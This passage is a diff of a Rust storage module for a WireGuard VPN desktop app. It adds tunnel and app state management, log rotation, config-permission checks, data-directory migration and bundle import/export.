@@ -1,15 +1,27 @@
-use crate::models::{AppItem, AppStateFile, Tunnel};
+use crate::models::{
+  AppItem, AppLimits, AppLiveOutput, KillSignal, AppStateFile, BinaryKind, BundleImport, ConfigPermissionIssue, ConfigUsage,
+  DnsMode, Endpoint, NatCheck, NetworkChangeAction, OutputLine, StateBundle, StorageUsage, SuspendAction, Tunnel, TunnelOp,
+};
+use crate::logging::{log_generations, rotate_log_file};
+use crate::wg_config::validate_config;
+use std::collections::{HashMap, VecDeque};
 use std::fs;
 use std::io::{self, Read, Write};
-use std::os::unix::fs::PermissionsExt;
+use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
 use std::path::{Path, PathBuf};
-use std::sync::Mutex;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex, RwLock};
 use tauri::api::path::config_dir;
 use thiserror::Error;
 use uuid::Uuid;
 
 const APP_DIR: &str = "sillyvpn";
 const STATE_FILE: &str = "state.json";
+const LOG_FILE: &str = "app.log";
+const APP_LOG_DIR: &str = "logs";
+const APP_LOG_GENERATIONS: usize = 3;
+const DATA_DIR_POINTER: &str = "data_dir";
+const APP_OUTPUT_MAX_LINE: usize = 4096;
 
 #[derive(Debug, Error)]
 pub enum StorageError {
@@ -23,52 +35,412 @@ pub enum StorageError {
   TunnelNotFound,
   #[error("app not found")]
   AppNotFound,
+  #[error("VPN is active, disable it first")]
+  VpnActive,
+  #[error("target directory is not empty")]
+  TargetNotEmpty,
+  #[error("invalid WireGuard config: {0}")]
+  InvalidConfig(String),
 }
 
 pub struct AppStateStore {
   state: Mutex<AppStateFile>,
-  data_dir: PathBuf,
-  log_path: PathBuf,
+  data_dir: RwLock<PathBuf>,
+  app_pids: Mutex<HashMap<String, u32>>,
+  probes: Mutex<Vec<Arc<AtomicBool>>>,
+  latency_stop: Mutex<Option<Arc<AtomicBool>>>,
+  app_output: Mutex<HashMap<String, OutputBuffer>>,
+  nat_check: Mutex<Option<NatCheck>>,
+}
+
+#[derive(Default)]
+struct OutputBuffer {
+  lines: VecDeque<OutputLine>,
+  next_seq: u64,
+  bytes: usize,
 }
 
 impl AppStateStore {
   pub fn new() -> Self {
-    let base = config_dir().unwrap_or_else(|| PathBuf::from("/tmp"));
-    let data_dir = base.join(APP_DIR);
-    let log_path = data_dir.join("app.log");
+    let default_dir = default_data_dir();
+    fs::create_dir_all(&default_dir).ok();
+    let data_dir = read_data_dir_pointer(&default_dir).unwrap_or(default_dir);
     fs::create_dir_all(&data_dir).ok();
 
     let state = load_state_file(&data_dir).unwrap_or_default();
     Self {
       state: Mutex::new(state),
-      data_dir,
-      log_path,
+      data_dir: RwLock::new(data_dir),
+      app_pids: Mutex::new(HashMap::new()),
+      probes: Mutex::new(Vec::new()),
+      latency_stop: Mutex::new(None),
+      app_output: Mutex::new(HashMap::new()),
+      nat_check: Mutex::new(None),
+    }
+  }
+
+  pub fn track_app_pid(&self, app_id: &str, pid: u32) {
+    self
+      .app_pids
+      .lock()
+      .expect("lock")
+      .insert(app_id.to_string(), pid);
+  }
+
+  pub fn app_pid(&self, app_id: &str) -> Option<u32> {
+    self.app_pids.lock().expect("lock").get(app_id).copied()
+  }
+
+  pub fn forget_app_pid(&self, app_id: &str) {
+    self.app_pids.lock().expect("lock").remove(app_id);
+  }
+
+  pub fn retain_app_pids(&self, keep: impl Fn(u32) -> bool) -> usize {
+    let mut pids = self.app_pids.lock().expect("lock");
+    let before = pids.len();
+    pids.retain(|_, pid| keep(*pid));
+    before - pids.len()
+  }
+
+  pub fn clear_app_pids(&self) -> usize {
+    let mut pids = self.app_pids.lock().expect("lock");
+    let count = pids.len();
+    pids.clear();
+    count
+  }
+
+  pub fn begin_app_output(&self, app_id: &str) {
+    self
+      .app_output
+      .lock()
+      .expect("lock")
+      .insert(app_id.to_string(), OutputBuffer::default());
+  }
+
+  pub fn push_app_output(&self, app_id: &str, mut text: String) {
+    let limit = self.state.lock().expect("lock").app_output_limit_kib as usize * 1024;
+    let mut outputs = self.app_output.lock().expect("lock");
+    let Some(buffer) = outputs.get_mut(app_id) else {
+      return;
+    };
+    if text.len() > APP_OUTPUT_MAX_LINE {
+      let mut end = APP_OUTPUT_MAX_LINE;
+      while !text.is_char_boundary(end) {
+        end -= 1;
+      }
+      text.truncate(end);
+    }
+    buffer.bytes += text.len();
+    buffer.lines.push_back(OutputLine {
+      seq: buffer.next_seq,
+      text,
+    });
+    buffer.next_seq += 1;
+    while buffer.bytes > limit {
+      match buffer.lines.pop_front() {
+        Some(evicted) => buffer.bytes -= evicted.text.len(),
+        None => break,
+      }
+    }
+  }
+
+  pub fn end_app_output(&self, app_id: &str) {
+    self.app_output.lock().expect("lock").remove(app_id);
+  }
+
+  pub fn app_output_since(&self, app_id: &str, since: u64) -> AppLiveOutput {
+    let outputs = self.app_output.lock().expect("lock");
+    match outputs.get(app_id) {
+      Some(buffer) => AppLiveOutput {
+        lines: buffer
+          .lines
+          .iter()
+          .filter(|line| line.seq >= since)
+          .cloned()
+          .collect(),
+        next_seq: buffer.next_seq,
+        running: true,
+      },
+      None => AppLiveOutput {
+        lines: Vec::new(),
+        next_seq: since,
+        running: false,
+      },
+    }
+  }
+
+  pub fn begin_probe(&self) -> Arc<AtomicBool> {
+    let cancel = Arc::new(AtomicBool::new(false));
+    self.probes.lock().expect("lock").push(cancel.clone());
+    cancel
+  }
+
+  pub fn finish_probe(&self, cancel: &Arc<AtomicBool>) {
+    self
+      .probes
+      .lock()
+      .expect("lock")
+      .retain(|probe| !Arc::ptr_eq(probe, cancel));
+  }
+
+  pub fn cancel_probes(&self) -> usize {
+    let probes = std::mem::take(&mut *self.probes.lock().expect("lock"));
+    for probe in &probes {
+      probe.store(true, Ordering::SeqCst);
+    }
+    probes.len()
+  }
+
+  pub fn begin_latency_monitor(&self) -> Arc<AtomicBool> {
+    let stop = Arc::new(AtomicBool::new(false));
+    let previous = self
+      .latency_stop
+      .lock()
+      .expect("lock")
+      .replace(stop.clone());
+    if let Some(previous) = previous {
+      previous.store(true, Ordering::SeqCst);
+    }
+    stop
+  }
+
+  pub fn stop_latency_monitor(&self) -> bool {
+    match self.latency_stop.lock().expect("lock").take() {
+      Some(stop) => {
+        stop.store(true, Ordering::SeqCst);
+        true
+      }
+      None => false,
     }
   }
 
-  pub fn data_dir(&self) -> &Path {
-    &self.data_dir
+  pub fn finish_latency_monitor(&self, stop: &Arc<AtomicBool>) {
+    let mut current = self.latency_stop.lock().expect("lock");
+    if current.as_ref().is_some_and(|current| Arc::ptr_eq(current, stop)) {
+      current.take();
+    }
+  }
+
+  pub fn set_nat_check(&self, check: Option<NatCheck>) {
+    *self.nat_check.lock().expect("lock") = check;
+  }
+
+  pub fn nat_check(&self) -> Option<NatCheck> {
+    self.nat_check.lock().expect("lock").clone()
+  }
+
+  pub fn set_probe_settings(&self, timeout_secs: u64, retries: u32) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.probe_timeout_secs = timeout_secs;
+    state.probe_retries = retries;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn data_dir(&self) -> PathBuf {
+    self.data_dir.read().expect("lock").clone()
+  }
+
+  pub fn log_path(&self) -> PathBuf {
+    self.data_dir().join(LOG_FILE)
+  }
+
+  pub fn app_log_path(&self, app_id: &str) -> PathBuf {
+    self.data_dir().join(APP_LOG_DIR).join(format!("{app_id}.log"))
+  }
+
+  pub fn prepare_app_log(&self, app_id: &str) -> Result<PathBuf, StorageError> {
+    let dir = self.data_dir().join(APP_LOG_DIR);
+    fs::create_dir_all(&dir)?;
+    fs::set_permissions(&dir, fs::Permissions::from_mode(0o700))?;
+    Ok(self.app_log_path(app_id))
   }
 
-  pub fn log_path(&self) -> &Path {
-    &self.log_path
+  pub fn app_log_generations(&self, app_id: &str) -> Vec<PathBuf> {
+    log_generations(&self.app_log_path(app_id), APP_LOG_GENERATIONS)
+      .into_iter()
+      .map(|(_, path)| path)
+      .collect()
+  }
+
+  pub fn rotate_app_log(&self, app_id: &str) -> Result<bool, StorageError> {
+    let (limit_kib, compress) = {
+      let state = self.state.lock().expect("lock");
+      (state.app_log_limit_kib, state.compress_app_logs)
+    };
+    Ok(rotate_log_file(
+      &self.app_log_path(app_id),
+      limit_kib * 1024,
+      APP_LOG_GENERATIONS,
+      compress,
+    )?)
+  }
+
+  pub fn remove_app_log_generations(&self, app_id: &str) {
+    for path in self.app_log_generations(app_id) {
+      let _ = fs::remove_file(path);
+    }
+  }
+
+  pub fn storage_usage(&self) -> Result<StorageUsage, StorageError> {
+    let data_dir = self.data_dir();
+    let state = self.state_snapshot();
+    let log_prefix = format!("{LOG_FILE}.");
+    let mut usage = StorageUsage {
+      data_dir: data_dir.to_string_lossy().to_string(),
+      total_bytes: 0,
+      state_bytes: 0,
+      logs_bytes: 0,
+      configs: Vec::new(),
+      orphaned_config_bytes: 0,
+      other_bytes: 0,
+      suggestion: None,
+    };
+    for entry in fs::read_dir(&data_dir)?.flatten() {
+      let path = entry.path();
+      let bytes = disk_size(&path);
+      let name = entry.file_name().to_string_lossy().to_string();
+      usage.total_bytes += bytes;
+      if name == STATE_FILE {
+        usage.state_bytes += bytes;
+      } else if name == LOG_FILE || name.starts_with(&log_prefix) || name == APP_LOG_DIR {
+        usage.logs_bytes += bytes;
+      } else if path.extension().and_then(|ext| ext.to_str()) == Some("conf") {
+        match state.tunnels.iter().find(|tunnel| Path::new(&tunnel.path) == path) {
+          Some(tunnel) => usage.configs.push(ConfigUsage {
+            tunnel_id: tunnel.id.clone(),
+            name: tunnel.name.clone(),
+            bytes,
+          }),
+          None => usage.orphaned_config_bytes += bytes,
+        }
+      } else {
+        usage.other_bytes += bytes;
+      }
+    }
+    usage.configs.sort_by_key(|config| std::cmp::Reverse(config.bytes));
+    Ok(usage)
+  }
+
+  pub fn config_permission_issues(&self) -> Result<Vec<ConfigPermissionIssue>, StorageError> {
+    let expected_uid = unsafe { libc::getuid() };
+    let mut issues = Vec::new();
+    for entry in fs::read_dir(self.data_dir())?.flatten() {
+      let path = entry.path();
+      if path.extension().and_then(|ext| ext.to_str()) != Some("conf") {
+        continue;
+      }
+      let meta = fs::symlink_metadata(&path)?;
+      let mode = meta.mode() & 0o777;
+      if mode != 0o600 || meta.uid() != expected_uid {
+        issues.push(ConfigPermissionIssue {
+          path: path.to_string_lossy().to_string(),
+          mode: format!("{mode:04o}"),
+          owner_uid: meta.uid(),
+          expected_uid,
+        });
+      }
+    }
+    Ok(issues)
+  }
+
+  pub fn fix_config_permissions(&self) -> Result<Vec<ConfigPermissionIssue>, StorageError> {
+    for issue in self.config_permission_issues()? {
+      if issue.owner_uid == issue.expected_uid {
+        set_private_permissions(Path::new(&issue.path))?;
+      }
+    }
+    self.config_permission_issues()
+  }
+
+  pub fn set_data_dir(&self, target: &Path) -> Result<PathBuf, StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    if state.vpn_enabled {
+      return Err(StorageError::VpnActive);
+    }
+    let current = self.data_dir();
+    fs::create_dir_all(target)?;
+    let target = fs::canonicalize(target)?;
+    if target == fs::canonicalize(&current)? {
+      return Ok(target);
+    }
+    if fs::read_dir(&target)?.next().is_some() {
+      return Err(StorageError::TargetNotEmpty);
+    }
+
+    let mut migrated = state.clone();
+    let result = (|| -> Result<(), StorageError> {
+      for tunnel in &mut migrated.tunnels {
+        let src = PathBuf::from(&tunnel.path);
+        let file_name = src.file_name().ok_or(StorageError::TunnelNotFound)?;
+        let dest = target.join(file_name);
+        fs::copy(&src, &dest)?;
+        set_private_permissions(&dest)?;
+        tunnel.path = dest.to_string_lossy().to_string();
+      }
+      copy_logs(&current, &target)?;
+      save_state_file(&target, &migrated)?;
+      write_data_dir_pointer(&target)?;
+      Ok(())
+    })();
+    if let Err(err) = result {
+      for tunnel in &migrated.tunnels {
+        if Path::new(&tunnel.path).starts_with(&target) {
+          let _ = fs::remove_file(&tunnel.path);
+        }
+      }
+      remove_logs(&target);
+      let _ = fs::remove_file(target.join(STATE_FILE));
+      return Err(err);
+    }
+
+    for tunnel in &state.tunnels {
+      let _ = fs::remove_file(&tunnel.path);
+    }
+    remove_logs(&current);
+    let _ = fs::remove_file(current.join(STATE_FILE));
+    *state = migrated;
+    *self.data_dir.write().expect("lock") = target.clone();
+    Ok(target)
   }
 
   pub fn state_snapshot(&self) -> AppStateFile {
     self.state.lock().expect("lock").clone()
   }
 
+  pub fn state_divergence(&self) -> Result<Vec<String>, StorageError> {
+    let state = self.state.lock().expect("lock");
+    divergence(&self.data_dir(), &state)
+  }
+
+  pub fn autosave_if_diverged(&self) -> Result<Vec<String>, StorageError> {
+    let state = self.state.lock().expect("lock");
+    let differences = divergence(&self.data_dir(), &state)?;
+    if !differences.is_empty() {
+      save_state_file(&self.data_dir(), &state)?;
+    }
+    Ok(differences)
+  }
+
   pub fn save_state(&self, state: &AppStateFile) -> Result<(), StorageError> {
-    save_state_file(&self.data_dir, state)?;
+    save_state_file(&self.data_dir(), state)?;
     Ok(())
   }
 
-  pub fn import_conf(&self, src: &Path) -> Result<Tunnel, StorageError> {
+  pub fn import_conf(
+    &self,
+    src: &Path,
+    content: &str,
+    endpoints: Vec<Endpoint>,
+    provider: Option<String>,
+    region: Option<String>,
+  ) -> Result<Tunnel, StorageError> {
+    validate_config(content).map_err(StorageError::InvalidConfig)?;
     let mut state = self.state.lock().expect("lock");
     let id = Uuid::new_v4().to_string();
     let file_name = format!("{}.conf", id);
-    let dest = self.data_dir.join(&file_name);
-    fs::copy(src, &dest)?;
+    let dest = self.data_dir().join(&file_name);
+    fs::write(&dest, content)?;
     set_private_permissions(&dest)?;
 
     let name = src
@@ -81,23 +453,260 @@ impl AppStateStore {
       id: id.clone(),
       name,
       path: dest.to_string_lossy().to_string(),
+      note: None,
+      enabled: true,
+      bypass_routes: Vec::new(),
+      dns_mode: DnsMode::default(),
+      auto_mtu: false,
+      manage_routes_externally: false,
+      masquerade: true,
+      endpoints,
+      provider,
+      region,
+      launch_profile: Vec::new(),
+      resolv_options: None,
+      connect_count: 0,
+      connect_timeout_secs: None,
+      veth_subnet: None,
+      route_table: None,
+      fwmark: None,
+      kill_switch: false,
     };
     state.tunnels.push(tunnel.clone());
     state.last_tunnel_id = Some(id);
-    save_state_file(&self.data_dir, &state)?;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(tunnel)
+  }
+
+  pub fn remove_tunnel(&self, tunnel_id: &str) -> Result<Tunnel, StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    if state.vpn_enabled && state.active_tunnel_id.as_deref() == Some(tunnel_id) {
+      return Err(StorageError::VpnActive);
+    }
+    let index = state
+      .tunnels
+      .iter()
+      .position(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    let tunnel = state.tunnels.remove(index);
+    if state.last_tunnel_id.as_deref() == Some(tunnel_id) {
+      state.last_tunnel_id = None;
+    }
+    for app in &mut state.apps {
+      if app.preferred_tunnel_id.as_deref() == Some(tunnel_id) {
+        app.preferred_tunnel_id = None;
+      }
+    }
+    save_state_file(&self.data_dir(), &state)?;
+    match fs::remove_file(&tunnel.path) {
+      Err(err) if err.kind() != io::ErrorKind::NotFound => return Err(err.into()),
+      _ => {}
+    }
     Ok(tunnel)
   }
 
-  pub fn add_app(&self, path: &Path, label: String) -> Result<AppItem, StorageError> {
+  pub fn replace_tunnel_config(
+    &self,
+    tunnel_id: &str,
+    content: &str,
+    endpoints: Vec<Endpoint>,
+    inferred: (Option<String>, Option<String>),
+    name: Option<String>,
+  ) -> Result<Tunnel, StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    if state.vpn_enabled && state.active_tunnel_id.as_deref() == Some(tunnel_id) {
+      return Err(StorageError::VpnActive);
+    }
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    let dest = PathBuf::from(&tunnel.path);
+    let temp = dest.with_extension("conf.tmp");
+    let written = (|| -> io::Result<()> {
+      let mut file = fs::OpenOptions::new()
+        .write(true)
+        .create(true)
+        .truncate(true)
+        .mode(0o600)
+        .open(&temp)?;
+      file.write_all(content.as_bytes())?;
+      file.sync_all()?;
+      fs::rename(&temp, &dest)
+    })();
+    if let Err(err) = written {
+      let _ = fs::remove_file(&temp);
+      return Err(err.into());
+    }
+    tunnel.endpoints = endpoints;
+    let (provider, region) = inferred;
+    if tunnel.provider.is_none() {
+      tunnel.provider = provider;
+    }
+    if tunnel.region.is_none() {
+      tunnel.region = region;
+    }
+    if let Some(name) = name {
+      tunnel.name = name;
+    }
+    let updated = tunnel.clone();
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(updated)
+  }
+
+  pub fn export_bundle(&self, format: &str, version: u32) -> Result<StateBundle, StorageError> {
+    let mut state = self.state_snapshot();
+    state.vpn_enabled = false;
+    state.active_tunnel_id = None;
+    let mut configs = HashMap::new();
+    for tunnel in &state.tunnels {
+      configs.insert(tunnel.id.clone(), fs::read_to_string(&tunnel.path)?);
+    }
+    Ok(StateBundle {
+      format: format.to_string(),
+      version,
+      state,
+      configs,
+    })
+  }
+
+  pub fn import_bundle(
+    &self,
+    bundle: StateBundle,
+    restore_settings: bool,
+  ) -> Result<BundleImport, StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let data_dir = self.data_dir();
+    let mut imported = bundle.state;
+    let mut tunnel_ids = HashMap::new();
+    let mut written = Vec::new();
+    let result = (|| -> Result<(), StorageError> {
+      for tunnel in &mut imported.tunnels {
+        let content = bundle
+          .configs
+          .get(&tunnel.id)
+          .ok_or(StorageError::TunnelNotFound)?;
+        let id = Uuid::new_v4().to_string();
+        let dest = data_dir.join(format!("{id}.conf"));
+        written.push(dest.clone());
+        fs::OpenOptions::new()
+          .write(true)
+          .create(true)
+          .truncate(true)
+          .mode(0o600)
+          .open(&dest)?
+          .write_all(content.as_bytes())?;
+        tunnel_ids.insert(tunnel.id.clone(), id.clone());
+        tunnel.id = id;
+        tunnel.path = dest.to_string_lossy().to_string();
+      }
+      Ok(())
+    })();
+    if let Err(err) = result {
+      for path in written {
+        let _ = fs::remove_file(path);
+      }
+      return Err(err);
+    }
+
+    let mut app_ids = HashMap::new();
+    for app in &mut imported.apps {
+      let id = Uuid::new_v4().to_string();
+      app_ids.insert(app.id.clone(), id.clone());
+      app.id = id;
+      app.preferred_tunnel_id = app
+        .preferred_tunnel_id
+        .as_ref()
+        .and_then(|tunnel_id| tunnel_ids.get(tunnel_id).cloned());
+    }
+    for tunnel in &mut imported.tunnels {
+      tunnel.launch_profile = tunnel
+        .launch_profile
+        .iter()
+        .filter_map(|app_id| app_ids.get(app_id).cloned())
+        .collect();
+    }
+
+    let summary = BundleImport {
+      tunnels: imported.tunnels.len(),
+      apps: imported.apps.len(),
+      settings_restored: restore_settings,
+      skipped_on_connect_cmd: imported.on_connect_cmd.take(),
+      skipped_on_disconnect_cmd: imported.on_disconnect_cmd.take(),
+    };
+    let last_tunnel_id = imported
+      .last_tunnel_id
+      .take()
+      .and_then(|id| tunnel_ids.get(&id).cloned())
+      .or_else(|| state.last_tunnel_id.clone());
+    let last_app_id = imported
+      .last_app_id
+      .take()
+      .and_then(|id| app_ids.get(&id).cloned())
+      .or_else(|| state.last_app_id.clone());
+    let mut tunnels = state.tunnels.clone();
+    tunnels.append(&mut imported.tunnels);
+    let mut apps = state.apps.clone();
+    apps.append(&mut imported.apps);
+    let settings = if restore_settings {
+      AppStateFile {
+        on_connect_cmd: state.on_connect_cmd.clone(),
+        on_disconnect_cmd: state.on_disconnect_cmd.clone(),
+        ..imported
+      }
+    } else {
+      state.clone()
+    };
+    let next = AppStateFile {
+      tunnels,
+      apps,
+      last_tunnel_id,
+      last_app_id,
+      vpn_enabled: state.vpn_enabled,
+      active_tunnel_id: state.active_tunnel_id.clone(),
+      ..settings
+    };
+    if let Err(err) = save_state_file(&data_dir, &next) {
+      for path in written {
+        let _ = fs::remove_file(path);
+      }
+      return Err(err);
+    }
+    *state = next;
+    Ok(summary)
+  }
+
+  pub fn add_app(
+    &self,
+    path: &Path,
+    label: String,
+    kind: BinaryKind,
+    interpreter: Option<String>,
+    args: Vec<String>,
+    cwd: Option<String>,
+  ) -> Result<AppItem, StorageError> {
     let mut state = self.state.lock().expect("lock");
     let id = Uuid::new_v4().to_string();
     let app = AppItem {
       id: id.clone(),
       label,
       path: path.to_string_lossy().to_string(),
+      kind,
+      interpreter,
+      note: None,
+      enabled: true,
+      autostart: false,
+      preferred_tunnel_id: None,
+      in_terminal: false,
+      capture_output: false,
+      limits: AppLimits::default(),
+      kill_signal: KillSignal::default(),
+      args,
+      cwd,
     };
     state.apps.push(app.clone());
-    save_state_file(&self.data_dir, &state)?;
+    save_state_file(&self.data_dir(), &state)?;
     Ok(app)
   }
 
@@ -108,28 +717,443 @@ impl AppStateStore {
     if state.apps.len() == initial {
       return Err(StorageError::AppNotFound);
     }
-    save_state_file(&self.data_dir, &state)?;
+    for tunnel in &mut state.tunnels {
+      tunnel.launch_profile.retain(|id| id != app_id);
+    }
+    save_state_file(&self.data_dir(), &state)?;
+    let _ = fs::remove_file(self.app_log_path(app_id));
+    self.remove_app_log_generations(app_id);
+    Ok(())
+  }
+
+  pub fn update_app(
+    &self,
+    app_id: &str,
+    label: Option<String>,
+    note: Option<String>,
+    enabled: Option<bool>,
+    autostart: Option<bool>,
+    preferred_tunnel_id: Option<String>,
+  ) -> Result<AppItem, StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let app = state
+      .apps
+      .iter_mut()
+      .find(|app| app.id == app_id)
+      .ok_or(StorageError::AppNotFound)?;
+    if let Some(label) = label {
+      app.label = label;
+    }
+    if let Some(note) = note {
+      app.note = normalize_note(note);
+    }
+    if let Some(enabled) = enabled {
+      app.enabled = enabled;
+    }
+    if let Some(autostart) = autostart {
+      app.autostart = autostart;
+    }
+    if let Some(tunnel_id) = preferred_tunnel_id {
+      app.preferred_tunnel_id = Some(tunnel_id).filter(|id| !id.is_empty());
+    }
+    let updated = app.clone();
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(updated)
+  }
+
+  pub fn update_tunnel(
+    &self,
+    tunnel_id: &str,
+    name: Option<String>,
+    note: Option<String>,
+    enabled: Option<bool>,
+    provider: Option<String>,
+    region: Option<String>,
+  ) -> Result<Tunnel, StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    if let Some(name) = name {
+      tunnel.name = name;
+    }
+    if let Some(note) = note {
+      tunnel.note = normalize_note(note);
+    }
+    if let Some(enabled) = enabled {
+      tunnel.enabled = enabled;
+    }
+    if let Some(provider) = provider {
+      tunnel.provider = normalize_note(provider);
+    }
+    if let Some(region) = region {
+      tunnel.region = normalize_note(region);
+    }
+    let updated = tunnel.clone();
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(updated)
+  }
+
+  pub fn batch_update_tunnels(&self, ops: &[TunnelOp]) -> Result<Vec<Tunnel>, StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    if ops
+      .iter()
+      .any(|op| !state.tunnels.iter().any(|tunnel| tunnel.id == op.tunnel_id()))
+    {
+      return Err(StorageError::TunnelNotFound);
+    }
+    let mut next = state.clone();
+    for op in ops {
+      let position = next
+        .tunnels
+        .iter()
+        .position(|tunnel| tunnel.id == op.tunnel_id())
+        .ok_or(StorageError::TunnelNotFound)?;
+      match op {
+        TunnelOp::Rename { name, .. } => next.tunnels[position].name = name.clone(),
+        TunnelOp::SetEnabled { enabled, .. } => next.tunnels[position].enabled = *enabled,
+        TunnelOp::Move { index, .. } => {
+          let tunnel = next.tunnels.remove(position);
+          let index = (*index).min(next.tunnels.len());
+          next.tunnels.insert(index, tunnel);
+        }
+      }
+    }
+    save_state_file(&self.data_dir(), &next)?;
+    *state = next;
+    Ok(state.tunnels.clone())
+  }
+
+  pub fn set_tunnel_bypass_routes(
+    &self,
+    tunnel_id: &str,
+    routes: Vec<String>,
+  ) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.bypass_routes = routes;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_tunnel_dns_mode(&self, tunnel_id: &str, mode: DnsMode) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.dns_mode = mode;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_tunnel_auto_mtu(&self, tunnel_id: &str, auto_mtu: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.auto_mtu = auto_mtu;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_tunnel_network(
+    &self,
+    tunnel_id: &str,
+    subnet: Option<String>,
+    table: Option<u32>,
+    fwmark: Option<u32>,
+  ) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.veth_subnet = subnet;
+    tunnel.route_table = table;
+    tunnel.fwmark = fwmark;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_tunnel_kill_switch(&self, tunnel_id: &str, enabled: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.kill_switch = enabled;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_tunnel_connect_timeout(
+    &self,
+    tunnel_id: &str,
+    timeout_secs: Option<u64>,
+  ) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.connect_timeout_secs = timeout_secs;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_tunnel_manage_routes_externally(
+    &self,
+    tunnel_id: &str,
+    external: bool,
+  ) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.manage_routes_externally = external;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_tunnel_masquerade(&self, tunnel_id: &str, masquerade: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.masquerade = masquerade;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_launch_profile_member(
+    &self,
+    tunnel_id: &str,
+    app_id: &str,
+    member: bool,
+  ) -> Result<Vec<String>, StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    if !state.apps.iter().any(|app| app.id == app_id) {
+      return Err(StorageError::AppNotFound);
+    }
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    let present = tunnel.launch_profile.iter().any(|id| id == app_id);
+    if member && !present {
+      tunnel.launch_profile.push(app_id.to_string());
+    } else if !member {
+      tunnel.launch_profile.retain(|id| id != app_id);
+    }
+    let profile = tunnel.launch_profile.clone();
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(profile)
+  }
+
+  pub fn set_tunnel_resolv_options(
+    &self,
+    tunnel_id: &str,
+    options: Option<String>,
+  ) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let tunnel = state
+      .tunnels
+      .iter_mut()
+      .find(|tunnel| tunnel.id == tunnel_id)
+      .ok_or(StorageError::TunnelNotFound)?;
+    tunnel.resolv_options = options;
+    save_state_file(&self.data_dir(), &state)?;
     Ok(())
   }
 
   pub fn set_vpn_enabled(&self, enabled: bool) -> Result<(), StorageError> {
     let mut state = self.state.lock().expect("lock");
     state.vpn_enabled = enabled;
-    save_state_file(&self.data_dir, &state)?;
+    if !enabled {
+      state.active_tunnel_id = None;
+    }
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_active_tunnel(&self, tunnel_id: &str) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.vpn_enabled = true;
+    state.active_tunnel_id = Some(tunnel_id.to_string());
+    if let Some(tunnel) = state.tunnels.iter_mut().find(|tunnel| tunnel.id == tunnel_id) {
+      tunnel.connect_count += 1;
+    }
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_suspend_action(&self, action: SuspendAction) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
